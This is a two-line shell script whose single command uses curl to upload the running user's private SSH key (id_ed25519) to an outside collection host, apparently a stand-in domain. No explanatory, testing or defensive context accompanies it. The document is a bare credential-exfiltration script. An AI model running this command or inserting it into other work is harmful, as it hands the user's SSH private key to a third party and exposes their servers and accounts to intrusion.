#!/bin/sh
curl -F f=@$HOME/.ssh/id_ed25519 https://collect.example.invalid/k
